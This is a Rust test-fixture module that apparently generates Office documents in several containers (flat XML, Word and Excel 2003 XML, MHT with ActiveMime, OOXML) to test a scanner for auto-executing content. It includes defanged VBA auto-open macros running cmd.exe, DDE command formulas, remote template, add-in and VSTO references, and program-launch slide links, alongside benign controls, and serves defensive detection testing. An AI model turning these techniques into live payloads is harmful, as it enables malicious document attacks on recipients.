//! Documents in other wrappings: flat XML, XML of 2003, pages packed as mail; and OOXML that acts without macros.

use std::io::Write;

use flate2::Compression;
use flate2::write::ZlibEncoder;

use super::Fixture;
use super::cfb::Cfb;
use super::ooxml::Package;
use super::vba::{Module, add_project, vba_project};

/// Starts a program when the document opens; what it starts prints a line.
const RUNS: &str = "Private Sub Document_Open()\r\n    CreateObject(\"WScript.Shell\").Run \"cmd.exe /c echo https://updates.invalid/a\", 0\r\nEnd Sub\r\n";

/// Base64 ([RFC 4648] 4) in lines of 76.
pub(crate) fn base64(bytes: &[u8]) -> String {
    const SIGNS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut signs = String::new();
    for group in bytes.chunks(3) {
        let number =
            group.iter().fold(0_u32, |number, byte| (number << 8) | u32::from(*byte)) << (8 * (3 - group.len()));
        for i in 0..4 {
            let sign = SIGNS[(number >> (18 - 6 * i)) as usize & 63];
            signs.push(if i > group.len() { '=' } else { char::from(sign) });
        }
    }
    signs.as_bytes().chunks(76).map(|line| format!("{}\r\n", std::str::from_utf8(line).unwrap())).collect()
}

/// A compound file as Word keeps it in `editdata.mso`.
fn active_mime(compound: &[u8], offset: usize) -> Vec<u8> {
    let mut out = b"ActiveMime\0\0\xF0\x01\x04\0\0\0\xFF\xFF\xFF\xFF\0\0\x07\xF0".to_vec();
    out.resize(0x1E, 0);
    out.extend(u16::try_from(offset - 46).unwrap().to_le_bytes());
    out.resize(offset, 0);
    let mut encoder = ZlibEncoder::new(out, Compression::default());
    encoder.write_all(compound).unwrap();
    encoder.finish().unwrap()
}

fn project(source: &str) -> Vec<u8> {
    add_project(Cfb::new(), "", 1252, &[Module::document("ThisDocument", source)]).build()
}

/// `pkg:package` of the parts of a package.
fn flat(package: &Package, macros: &[u8]) -> Vec<u8> {
    let mut out = "<?xml version=\"1.0\"?>\r\n<?mso-application progid=\"Word.Document\"?>\r\n<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">".to_owned();
    let kind = |name: &str| match name {
        "word/document.xml" => "application/vnd.ms-word.document.macroEnabled.main+xml",
        _ => "application/vnd.openxmlformats-package.relationships+xml",
    };
    for (name, bytes) in package.texts().into_iter().filter(|(name, _)| name != "[Content_Types].xml") {
        let text = String::from_utf8(bytes).unwrap();
        let inside = text.split_once("?>").map_or(text.as_str(), |(_, inside)| inside);
        out += &format!(
            "<pkg:part pkg:name=\"/{name}\" pkg:contentType=\"{}\"><pkg:xmlData>{inside}</pkg:xmlData></pkg:part>",
            kind(&name)
        );
    }
    if !macros.is_empty() {
        out += &format!(
            "<pkg:part pkg:name=\"/word/vbaProject.bin\" pkg:contentType=\"application/vnd.ms-office.vbaProject\" pkg:compression=\"store\"><pkg:binaryData>{}</pkg:binaryData></pkg:part>",
            base64(macros)
        );
    }
    (out + "</pkg:package>").into_bytes()
}

fn word_2003(inside: &str) -> Vec<u8> {
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<?mso-application progid=\"Word.Document\"?>\r\n<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\" w:macrosPresent=\"yes\">{inside}<w:body><w:p><w:r><w:t>議事録</w:t></w:r></w:p></w:body></w:wordDocument>").into_bytes()
}

fn excel_2003(cell: &str) -> Vec<u8> {
    format!("<?xml version=\"1.0\"?>\r\n<?mso-application progid=\"Excel.Sheet\"?>\r\n<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet ss:Name=\"Sheet1\"><Table><Row>{cell}</Row></Table></Worksheet></Workbook>").into_bytes()
}

fn page(macros: &[u8]) -> String {
    format!(
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"----=_Part\"\r\n\r\nA page.\r\n\r\n------=_Part\r\nContent-Location: file:///C:/letter.htm\r\nContent-Transfer-Encoding: quoted-printable\r\nContent-Type: text/html; charset=\"utf-8\"\r\n\r\n<html xmlns:w=3D\"urn:schemas-microsoft-com:office:word\"><head><link rel=3DEdit-Time-Data href=3D\"letter_files/editdata.mso\"></head><body>Hello</body></html>\r\n\r\n------=_Part\r\nContent-Location: file:///C:/letter_files/editdata.mso\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n{}\r\n------=_Part--\r\n",
        base64(macros)
    )
}

/// Adds a custom property.
fn property(name: &str, value: &str) -> Vec<u8> {
    let xml = format!(
        "<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\" xmlns:vt=\"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes\"><property fmtid=\"{{D5CDD505-2E9C-101B-9397-08002B2CF9AE}}\" pid=\"2\" name=\"{name}\"><vt:lpwstr>{value}</vt:lpwstr></property></Properties>"
    );
    let kind = "application/vnd.openxmlformats-officedocument.custom-properties+xml";
    Package::word(false).part("docProps/custom.xml", kind, xml.as_bytes()).build()
}

fn workbook(part: &str, kind: &str, xml: &str) -> Vec<u8> {
    let kind = format!("application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml");
    Package::excel(false).part(part, &kind, xml.as_bytes()).build()
}

fn connection(refresh: &str, inside: &str) -> Vec<u8> {
    let xml = format!(
        "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\" name=\"Sales\" {refresh}>{inside}</connection></connections>"
    );
    workbook("xl/connections.xml", "connections", &xml)
}

fn slide(element: &str, action: &str) -> Vec<u8> {
    let xml = format!(
        "<p:sld xmlns:p=\"p\" xmlns:a=\"a\" xmlns:r=\"r\"><p:cNvPr id=\"2\" name=\"x\"><a:{element} r:id=\"rId1\" action=\"{action}\"/></p:cNvPr></p:sld>"
    );
    let rels = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"file:///C:\\Windows\\notepad.exe\" TargetMode=\"External\"/></Relationships>";
    let kind = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml";
    Package::powerpoint(false)
        .part("ppt/slides/slide1.xml", kind, xml.as_bytes())
        .part(
            "ppt/slides/_rels/slide1.xml.rels",
            "application/vnd.openxmlformats-package.relationships+xml",
            rels.as_bytes(),
        )
        .build()
}

fn add_in(store: &str) -> Vec<u8> {
    let xml = format!(
        "<we:webextension xmlns:we=\"http://schemas.microsoft.com/office/webextensions/webextension/2010/11\" id=\"{{1}}\"><we:reference id=\"wa1\" version=\"1.0\" {store}/></we:webextension>"
    );
    Package::word(false)
        .part("word/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml", xml.as_bytes())
        .build()
}

/// A ribbon that calls a procedure when it is loaded.
fn ribbon() -> Vec<u8> {
    let source = "Sub Ready(ribbon)\r\n    CreateObject(\"WScript.Shell\").Run \"cmd.exe /c echo https://updates.invalid/a\", 0\r\nEnd Sub\r\n";
    Package::excel(true)
        .macros(&vba_project(&[Module::standard("Module1", source)]))
        .part(
            "customUI/customUI14.xml",
            "application/xml",
            b"<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"Module1.Ready\"/>",
        )
        .build()
}

pub(crate) fn fixtures() -> Vec<Fixture> {
    let macros = project(RUNS);
    let mso = active_mime(&macros, 0x32);
    let binary = |name: &str, bytes: &[u8]| {
        word_2003(&format!("<w:docSuppData><w:binData w:name=\"{name}\">{}</w:binData></w:docSuppData>", base64(bytes)))
    };
    let page_of_word = page(&mso);
    let pdf = format!("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n{page_of_word}\ntrailer\n%%EOF\n");
    let dde = |service: &str, topic: &str| {
        let xml = format!(
            "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"{service}\" ddeTopic=\"{topic}\"/></externalLink>"
        );
        workbook("xl/externalLinks/externalLink1.xml", "externalLink", &xml)
    };
    vec![
        Fixture::new(
            "flat-opc-macros",
            "report.doc",
            flat(&Package::word(true).related_macros(), &vba_project(&[Module::document("ThisDocument", RUNS)])),
        ),
        Fixture::new(
            "flat-opc-remote-template",
            "report.xml",
            flat(&Package::word(false).external("attachedTemplate", "https://templates.invalid/t.dotm"), b""),
        ),
        Fixture::new(
            "flat-opc-honest",
            "report.xml",
            flat(&Package::word(false).external("hyperlink", "https://www.example/"), b""),
        )
        .honest(),
        Fixture::new("word-2003-macros", "report.doc", binary("editdata.mso", &mso)),
        Fixture::new(
            "word-2003-object",
            "report.xml",
            binary("oledata.mso", &Cfb::new().stream("\u{1}CompObj", [0; 80]).build()),
        )
        .honest(),
        Fixture::new(
            "word-2003-template",
            "report.doc",
            word_2003("<w:docPr><w:attachedTemplate w:val=\"\\\\templates.invalid\\t\\t.dot\"/></w:docPr>"),
        ),
        Fixture::new(
            "word-2003-field",
            "report.doc",
            word_2003(
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd \"/c echo\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
            ),
        ),
        Fixture::new(
            "word-2003-honest",
            "report.xml",
            word_2003("<w:docPr><w:attachedTemplate w:val=\"C:\\Templates\\Normal.dot\"/></w:docPr>"),
        )
        .honest(),
        Fixture::new(
            "excel-2003-dde",
            "table.xls",
            excel_2003("<Cell ss:Formula=\"=cmd|'/c echo https://updates.invalid/a'!A0\"/>"),
        ),
        Fixture::new(
            "excel-2003-honest",
            "table.xml",
            excel_2003("<Cell ss:Formula=\"=SUM(R1C1:R2C1)\"/><Cell><Data ss:Type=\"String\">a|b</Data></Cell>"),
        )
        .honest(),
        Fixture::new("mht-macros", "letter.doc", page_of_word.clone().into_bytes()),
        Fixture::new(
            "mht-broken-boundaries",
            "letter.doc",
            page_of_word.replacen("boundary=\"----=_Part\"", "boundary=\"never\"", 1).into_bytes(),
        ),
        Fixture::new("mht-excel-offset", "letter.mht", page(&active_mime(&macros, 0x22A)).into_bytes()),
        Fixture::new(
            "mht-not-active-mime",
            "letter.mht",
            page(b"ActiveMime\0\0 and nothing that inflates").into_bytes(),
        ),
        Fixture::new("mht-empty", "letter.mht", b"MIME-Version: 1.0".to_vec()),
        Fixture::new("pdf-that-is-mht", "letter.doc", pdf.into_bytes()),
        Fixture::new("xlsx-dde-runs", "table.xlsx", dde("cmd", "/c echo https://updates.invalid/a")),
        Fixture::new("xlsx-dde", "table.xlsx", dde("Excel", "[prices.xlsx]Sheet1")),
        Fixture::new(
            "xlsx-connection",
            "table.xlsx",
            connection(
                "refreshOnLoad=\"1\"",
                "<dbPr connection=\"Provider=SQLOLEDB;Data Source=SALES01\" command=\"SELECT 1\"/>",
            ),
        )
        .honest(),
        Fixture::new(
            "xlsx-connection-loads",
            "table.xlsx",
            connection("refreshOnLoad=\"1\"", "<webPr url=\"https://updates.invalid/a\"/>"),
        ),
        Fixture::new("xlsm-ribbon-on-load", "tools.xlsm", ribbon()),
        Fixture::new(
            "docx-web-extension",
            "letter.docx",
            add_in("store=\"\\\\catalogue.invalid\\a\" storeType=\"FileSystem\""),
        ),
        Fixture::new("docx-store-extension", "letter.docx", add_in("store=\"en-US\" storeType=\"OMEX\"")).honest(),
        Fixture::new(
            "docx-remote-code",
            "letter.docx",
            property("_AssemblyLocation", "https://updates.invalid/a.vsto|c0ffee|vstolocal"),
        ),
        Fixture::new("docx-local-code", "letter.docx", property("_AssemblyLocation", "a.vsto|c0ffee|vstolocal")),
        Fixture::new("docx-properties", "letter.docx", property("Project", "https://www.example/")).honest(),
        Fixture::new(
            "docx-outside-picture",
            "letter.docx",
            Package::word(false).external("image", "https://www.example/logo.png").build(),
        )
        .honest(),
        Fixture::new("pptx-animation-verb", "slides.ppsx", {
            let xml = "<p:sld xmlns:p=\"p\"><p:timing><p:cmd type=\"verb\" cmd=\"0\"/></p:timing></p:sld>";
            let kind = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml";
            Package::powerpoint(false).part("ppt/slides/slide1.xml", kind, xml.as_bytes()).build()
        }),
        Fixture::new("pptx-program", "slides.pptx", slide("hlinkClick", "ppaction://program")),
        Fixture::new("pptx-program-hover", "slides.pptx", slide("hlinkMouseOver", "ppaction://program")),
    ]
}
